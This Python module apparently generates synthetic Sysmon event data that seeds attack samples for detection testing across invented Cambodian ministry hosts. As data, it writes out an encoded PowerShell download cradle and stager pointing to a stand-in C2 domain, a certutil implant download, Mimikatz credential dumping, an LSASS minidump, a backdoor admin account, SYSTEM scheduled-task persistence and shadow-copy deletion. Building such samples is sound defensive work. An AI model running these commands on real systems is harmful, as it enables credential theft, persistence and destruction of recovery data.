"""The seeded endpoint attacks, and the Sysmon event bodies they and benign events share.

Fifteen events tell one intrusion per host: a web shell on an MPTC portal, a phishing
script on a Ministry of Economy and Finance workstation that downloads an implant and
persists, a macro on a Ministry of Health workstation, and PsExec, Mimikatz, an LSASS
dump, a new local administrator, a scheduled task and shadow-copy deletion on a MEF server.
"""

from __future__ import annotations

import base64
import functools
import hashlib
from collections.abc import Mapping
from typing import Final

from samples.endpoint_catalog import (
    CMD,
    OFFICE,
    ORIGINAL_NAMES,
    PWSH,
    RUN,
    SYS32,
    W3WP,
    W3WP_ARGS,
    WIN,
)

__all__ = ["ATTACKS", "ATTACK_KINDS", "C2_DOMAIN", "C2_IP", "dns_body", "process_body", "sid"]


def _encode_powershell(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


C2_DOMAIN: Final = "update-mef-gov-kh.duckdns.org"
C2_IP: Final = "203.0.113.47"
_CRADLE: Final = _encode_powershell(
    f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_DOMAIN}/a.ps1')"
)
_STAGER: Final = _encode_powershell(
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAMVXbW/aSBD+zq9YWZZs"
    "qzgY0jQlUqQjEBJaSGgM4fKCqsVe8IbFS+11gKb57zfrNW+B9HofTufiF/Z55pmZnZmcUa9ilYVXiEH"
    "ZDmhoq/nRxYSc+E1zy//yTPcJWLTSWXh0tKrWjBOd6gDlj6vq'));IEX (New-Object IO.StreamReader("
    "New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))"
    ").ReadToEnd()"
)
_WS = "mef-fin-ws-012.mef.gov.kh"
_WS_USER = "MEF\\sokha.chan"
_MOH = "moh-hr-ws-027.moh.gov.kh"
_MOH_USER = "MOH\\dara.kim"
_SRV = "mef-fin-srv-03.mef.gov.kh"
_SRV_ADMIN = "MEF\\adm.rithy.meas"
_WEB = "mptc-dmz-web-02.mptc.gov.kh"
_PSEXESVC = WIN + "PSEXESVC.exe"
_IMPLANT = r"C:\Users\Public\Libraries\p.exe"
_WS_PS = f"powershell.exe -nop -w hidden -enc {_CRADLE}"
_MOH_PS = f'"{PWSH}" -NoP -NonI -W Hidden -Enc {_STAGER}'
_WS_HOME = "C:\\Users\\sokha.chan\\"
_MOH_HOME = "C:\\Users\\dara.kim\\"
_WS_LOGON = (_WS_HOME + "Documents\\", _WS_USER, "Medium")
_SRV_LOGON = (SYS32, _SRV_ADMIN, "High")
_SRV_SHELL = (5608, CMD, f'"{CMD}" ')  # the shell PsExec opened, parent of the later steps


@functools.cache
def _hashes(file_name: str) -> str:
    key = file_name.lower().encode()
    md5 = hashlib.md5(b"md5:" + key, usedforsecurity=False).hexdigest().upper()
    sha256 = hashlib.sha256(key).hexdigest().upper()
    imphash = hashlib.md5(b"imphash:" + key, usedforsecurity=False).hexdigest().upper()
    return f"MD5={md5},SHA256={sha256},IMPHASH={imphash}"


@functools.cache
def sid(netbios: str, user: str) -> str:
    """A stable Windows security identifier for ``user`` on host ``netbios``."""
    domain = hashlib.sha256(netbios.encode()).digest()
    parts = "-".join(str(int.from_bytes(domain[i : i + 4], "big")) for i in (0, 4, 8))
    rid = 1100 + int.from_bytes(hashlib.sha256(user.encode()).digest()[:2], "big") % 8000
    return f"S-1-5-21-{parts}-{rid}"


def process_body(
    process: tuple[int, str, str],
    logon: tuple[str, str, str],
    parent: tuple[int, str, str],
    original_name: str | None = None,
) -> dict[str, object]:
    """Fields of a process creation from (pid, Image, CommandLine), (cwd, User, integrity)."""
    pid, image, command = process
    cwd, user, integrity = logon
    parent_pid, parent_image, parent_command = parent
    name = image.rsplit("\\", 1)[-1]
    return {
        "ProcessId": pid,
        "Image": image,
        "OriginalFileName": original_name or ORIGINAL_NAMES.get(name.lower(), name),
        "CommandLine": command,
        "CurrentDirectory": cwd,
        "User": user,
        "IntegrityLevel": integrity,
        "Hashes": _hashes(name),
        "ParentProcessId": parent_pid,
        "ParentImage": parent_image,
        "ParentCommandLine": parent_command,
    }


def dns_body(pid: int, image: str, user: str, query: str, answer: str) -> dict[str, object]:
    """The Sysmon DNS query event (event id 22) body of one lookup."""
    return {
        "ProcessId": pid,
        "QueryName": query,
        "QueryStatus": "0",
        "QueryResults": f"::ffff:{answer};",
        "Image": image,
        "User": user,
    }


# fmt: off
# (kind, Sysmon EventID, Computer, event fields), in the order they appear in a sample.
ATTACKS: Final[tuple[tuple[str, int, str, Mapping[str, object]], ...]] = (
    ("web_shell_recon", 1, _WEB, process_body(
        (5124, SYS32 + "whoami.exe", "whoami /all"),
        (SYS32 + "inetsrv\\", "IIS APPPOOL\\eServices", "High"),
        (3876, W3WP, W3WP_ARGS.format(guid="5f1c0a3e")))),
    ("encoded_powershell", 1, _WS, process_body(
        (6140, PWSH, _WS_PS), _WS_LOGON,
        (2232, SYS32 + "wscript.exe", f'"{SYS32}WScript.exe" "{_WS_HOME}AppData\\Local\\Microsoft'
         r'\Windows\INetCache\Content.Outlook\Q8ZK2M1T\Salary_Adjustment_2027.js"'))),
    ("dns_dynamic_domain", 22, _WS, dns_body(6140, PWSH, _WS_USER, C2_DOMAIN, C2_IP)),
    ("certutil_download", 1, _WS, process_body(
        (7004, SYS32 + "certutil.exe",
         f"certutil.exe -urlcache -split -f http://{C2_IP}/p.exe {_IMPLANT}"),
        _WS_LOGON, (6140, PWSH, _WS_PS))),
    ("registry_run_key", 13, _WS, {
        "EventType": "SetValue", "ProcessId": 7388, "Image": _IMPLANT,
        "TargetObject": f"HKU\\{sid('MEF', 'sokha.chan')}{RUN}MicrosoftEdgeAutoUpdate",
        "Details": _IMPLANT, "User": _WS_USER}),
    ("office_macro_powershell", 1, _MOH, process_body(
        (4388, PWSH, _MOH_PS), (_MOH_HOME + "Downloads\\", _MOH_USER, "Medium"),
        (3120, OFFICE + "WINWORD.EXE",
         f'"{OFFICE}WINWORD.EXE" /n "{_MOH_HOME}Downloads\\Staff_Allowance_2027.docm"'))),
    ("dns_dynamic_domain", 22, _MOH, dns_body(
        4388, PWSH, _MOH_USER, "moh-hr-portal.ngrok-free.app", "198.51.100.23")),
    ("psexec_service", 1, _SRV, process_body(
        (2716, _PSEXESVC, _PSEXESVC), (SYS32, "NT AUTHORITY\\SYSTEM", "System"),
        (676, SYS32 + "services.exe", r"C:\Windows\system32\services.exe"), "psexesvc.exe")),
    ("psexec_service", 1, _SRV, process_body(
        (5608, CMD, _SRV_SHELL[2]), _SRV_LOGON, (2716, _PSEXESVC, _PSEXESVC))),
    ("mimikatz", 1, _SRV, process_body(
        (6244, r"C:\Users\Public\Libraries\m64.exe",
         'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
        (r"C:\Users\Public\Libraries" + "\\", _SRV_ADMIN, "High"), _SRV_SHELL, "mimikatz.exe")),
    ("lsass_minidump", 1, _SRV, process_body(
        (6512, SYS32 + "rundll32.exe",
         r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full"),
        _SRV_LOGON, _SRV_SHELL)),
    ("local_admin_account", 1, _SRV, process_body(
        (6896, SYS32 + "net.exe", "net user backup P@ss /add"), _SRV_LOGON, _SRV_SHELL)),
    ("local_admin_account", 1, _SRV, process_body(
        (7020, SYS32 + "net.exe", "net localgroup administrators backup /add"),
        _SRV_LOGON, _SRV_SHELL)),
    ("schtasks_onlogon", 1, _SRV, process_body(
        (7332, SYS32 + "schtasks.exe", 'schtasks /create /tn "MicrosoftEdgeUpdateCore"'
         f' /tr "{_IMPLANT}" /sc onlogon /ru SYSTEM /f'), _SRV_LOGON, _SRV_SHELL)),
    ("shadow_copy_delete", 1, _SRV, process_body(
        (7640, SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        _SRV_LOGON, _SRV_SHELL)),
)
# fmt: on

ATTACK_KINDS: Final[tuple[str, ...]] = tuple(dict.fromkeys(kind for kind, *_ in ATTACKS))
"""Names of the seeded attacks, in the order they appear in generated events."""
